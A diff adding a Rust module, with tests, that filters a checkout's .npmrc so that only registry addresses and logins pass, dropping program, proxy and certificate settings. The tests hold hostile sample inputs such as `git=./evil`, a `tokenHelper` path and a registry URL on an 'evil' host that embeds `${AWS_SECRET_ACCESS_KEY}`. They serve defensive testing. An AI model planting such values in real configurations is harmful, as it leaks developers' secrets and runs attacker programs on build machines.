@@ -1,0 +1,114 @@
+//! Reads of a checkout's own `.npmrc` what a fetch may see: the addresses of registries, and what is told to
+//! each to log in.
+//!
+//! npm's configuration can name programs (`git`, `script-shell`, `node-options`), proxies, certificates and
+//! folders. Whoever wrote the checkout must not choose those on the machine of whoever builds it, so they are
+//! left out and named if the fetch fails. Nor does a checkout choose which variables of the environment a
+//! registry is told: npm puts their values in the place of `${NAME}`. The user's own `.npmrc` and environment
+//! are not touched by this. Format: npm's documentation, "npmrc".
+
+use std::collections::BTreeSet;
+
+/// The part of a checkout's configuration that a fetch sees.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub(crate) struct Npmrc {
+    /// In npm's format.
+    pub(crate) text: String,
+    /// The settings that were left out.
+    pub(crate) left_out: BTreeSet<String>,
+}
+
+/// What a registry may be told.
+const LOGIN: [&str; 5] = ["_authToken", "_auth", "username", "_password", "email"];
+
+impl Npmrc {
+    /// Takes what may pass. `is_lent` says which variables the text may refer to.
+    pub(crate) fn new(text: &str, is_lent: &dyn Fn(&str) -> bool) -> Self {
+        let mut npmrc = Self::default();
+        let mut section = String::new();
+        // npm ends a line at either character.
+        for line in text.split(['\r', '\n']).map(str::trim) {
+            if line.is_empty() || line.starts_with([';', '#']) {
+                continue;
+            }
+            if line.starts_with('[') {
+                section = format!("{line}.");
+                continue;
+            }
+            let (key, value) = line.split_once('=').unwrap_or((line, ""));
+            let (key, value) = (key.trim(), value.trim());
+            let is_plain = value.chars().all(|c| !c.is_control());
+            let passes = section.is_empty() && is_address(key) && is_plain;
+            if passes && variables(value).all(is_lent) {
+                npmrc.text.push_str(&format!("{key}={value}\n"));
+            } else {
+                npmrc.left_out.insert(format!("{section}{key}").escape_debug().to_string());
+            }
+        }
+        npmrc
+    }
+}
+
+/// Whether a setting is the address of a registry, or a login for one.
+fn is_address(key: &str) -> bool {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_.~@/:%".contains(c);
+    if !key.chars().all(is_plain) {
+        return false;
+    }
+    let scope = key.strip_prefix('@').and_then(|key| key.strip_suffix(":registry"));
+    let login = key.strip_prefix("//").and_then(|key| key.rsplit_once(':'));
+    key == "registry"
+        || scope.is_some_and(|scope| !scope.is_empty() && !scope.contains([':', '/']))
+        || login.is_some_and(|(_, setting)| LOGIN.contains(&setting))
+}
+
+/// The variables that npm would put into a value: `${NAME}` and `${NAME?}`.
+fn variables(value: &str) -> impl Iterator<Item = &str> {
+    value.split("${").skip(1).map(|rest| {
+        let name = rest.split_once('}').map_or(rest, |(name, _)| name);
+        name.strip_suffix('?').unwrap_or(name)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn addresses_of_registries_are_taken_and_programs_are_not() {
+        let check = |text: &str, expect: &str, left_out: &[&str]| {
+            let npmrc = Npmrc::new(text, &|name| name.starts_with("NPM_"));
+            assert_eq!(npmrc.text, expect, "{text:?}");
+            assert_eq!(Vec::from_iter(&npmrc.left_out), left_out, "{text:?}");
+        };
+        check("", "", &[]);
+        let own = "registry=https://own/\n@a:registry=https://a/\n//own/:_authToken=${NPM_TOKEN}\n";
+        check(own, own, &[]);
+        check("; note\n# note\n registry = https://own/ \r\n", "registry=https://own/\n", &[]);
+        check(
+            "git=./evil\nscript-shell = ./evil\nnode-options=--require=./evil.js\nprefix=..\nproxy=p\n\
+             strict-ssl=false\ncafile=ca\n//own/:certfile=c\n//own/:tokenHelper=/evil",
+            "",
+            &[
+                "//own/:certfile",
+                "//own/:tokenHelper",
+                "cafile",
+                "git",
+                "node-options",
+                "prefix",
+                "proxy",
+                "script-shell",
+                "strict-ssl",
+            ],
+        );
+        // Each way to smuggle a line past this reader that npm's reader would see.
+        check("registry=https://own/\rgit=./evil", "registry=https://own/\n", &["git"]);
+        check("\"git\"=./evil", "", &["\\\"git\\\""]);
+        check("git[]=./evil", "", &["git[]"]);
+        check("[section]\nregistry=https://own/", "", &["[section].registry"]);
+        check("registry=https://evil/${AWS_SECRET_ACCESS_KEY}", "", &["registry"]);
+        check("registry=https://evil/${AWS_SECRET_ACCESS_KEY?}", "", &["registry"]);
+        check("//evil/:_authToken=${NPM_TOKEN}${HOME}", "", &["//evil/:_authToken"]);
+        check("@a/b:registry=x", "", &["@a/b:registry"]);
+    }
+}
